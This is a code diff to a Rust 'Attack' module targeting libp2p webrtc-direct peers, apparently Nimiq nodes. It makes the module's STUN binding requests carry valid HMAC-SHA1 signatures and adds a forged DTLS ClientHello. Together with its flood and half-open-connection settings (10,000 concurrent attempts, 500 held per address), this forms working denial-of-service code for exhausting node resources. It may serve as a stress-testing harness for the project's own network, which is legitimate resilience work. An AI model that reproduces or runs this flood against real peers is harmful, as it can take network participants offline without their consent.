@@ -10,6 +10,7 @@ use std::{
 
 use clap::ValueEnum;
 use futures::{AsyncWriteExt as _, StreamExt, future::join_all, stream};
+use hmac::{Hmac, Mac};
 use libp2p::multiaddr::Protocol;
 use nimiq_consensus::messages::RequestHead;
 use nimiq_network_interface::{
@@ -20,6 +21,7 @@ use parking_lot::Mutex;
 use pico_network::{Multiaddr, PeerId};
 use rand::random;
 use serde_json::{Value, json};
+use sha1::Sha1;
 use tokio::{
     io::{AsyncReadExt, AsyncWriteExt},
     net::{TcpListener, TcpStream, UdpSocket},
@@ -38,7 +40,7 @@ const OFFENDERS: usize = 16;
 const FLOOD_WIDTH: usize = 32;
 /// Connections that are begun and left there, for each address.
 const HALF_OPEN: usize = 500;
-/// How often a datagram is sent for each that is left open.
+/// How often datagrams are sent for each that is left open.
 const HALF_OPEN_EVERY: Duration = Duration::from_millis(500);
 /// Connections that are attempted in all, and at once.
 const ATTEMPTS: usize = 10_000;
@@ -203,10 +205,11 @@ impl Attack {
         let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).await?;
         socket.connect(socket_of(address)?).await?;
         let user = user();
+        self.count("connections");
         for _ in 0..PATIENCE.as_millis() / HALF_OPEN_EVERY.as_millis() {
-            socket.send(&binding_request(&user)).await?;
-            self.count("datagrams");
+            socket.send(&binding_request(&user)?).await?;
             sleep(HALF_OPEN_EVERY).await;
+            socket.send(&client_hello()).await?;
         }
         Ok(())
     }
@@ -328,7 +331,11 @@ impl Attack {
     async fn greet_webrtc(&self, address: &Multiaddr) -> io::Result<()> {
         let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0)).await?;
         socket.connect(socket_of(address)?).await?;
-        socket.send(&binding_request(&user())).await?;
+        socket.send(&binding_request(&user())?).await?;
+        // The answer shows that it was understood.
+        timeout(PATIENCE, socket.recv(&mut [0; 512])).await??;
+        self.count("answered");
+        socket.send(&client_hello()).await?;
         Ok(())
     }
 }
@@ -363,21 +370,32 @@ fn user() -> String {
     format!("libp2p+webrtc+v1/{:032x}", random::<u128>())
 }
 
-/// The first datagram of a connection by webrtc-direct, but without a proof of integrity.
-fn binding_request(user: &str) -> Vec<u8> {
+/// The first datagram of a connection by webrtc-direct: a STUN request by that user, signed.
+fn binding_request(user: &str) -> io::Result<Vec<u8>> {
     let name = format!("{user}:{user}");
-    let mut attribute = vec![0, 6];
-    attribute.extend(u16::try_from(name.len()).unwrap_or_default().to_be_bytes());
-    attribute.extend(name.as_bytes());
-    attribute.resize(attribute.len().next_multiple_of(4), 0);
+    let length = |length: usize| u16::try_from(length).unwrap_or_default().to_be_bytes();
+    let mut attributes = vec![0, 6];
+    attributes.extend(length(name.len()));
+    attributes.extend(name.as_bytes());
+    attributes.resize(attributes.len().next_multiple_of(4), 0);
     let mut message = vec![0, 1];
-    message.extend(
-        u16::try_from(attribute.len())
-            .unwrap_or_default()
-            .to_be_bytes(),
-    );
+    // With the signature, which is an attribute, too.
+    message.extend(length(attributes.len() + 24));
     message.extend(0x2112_a442_u32.to_be_bytes());
     message.extend(random::<[u8; 12]>());
-    message.extend(attribute);
-    message
+    message.extend(attributes);
+    let mut signature = Hmac::<Sha1>::new_from_slice(user.as_bytes()).map_err(io::Error::other)?;
+    signature.update(&message);
+    message.extend([0, 8]);
+    message.extend(length(20));
+    message.extend(signature.finalize().into_bytes());
+    Ok(message)
+}
+
+/// What looks like the beginning of a DTLS handshake, and isn't any.
+fn client_hello() -> Vec<u8> {
+    let mut datagram = vec![22, 0xfe, 0xfd, 0, 0, 0, 0, 0, 0, 0, 0, 0, 100, 1];
+    datagram.extend(random::<[u8; 32]>());
+    datagram.resize(113, 0);
+    datagram
 }
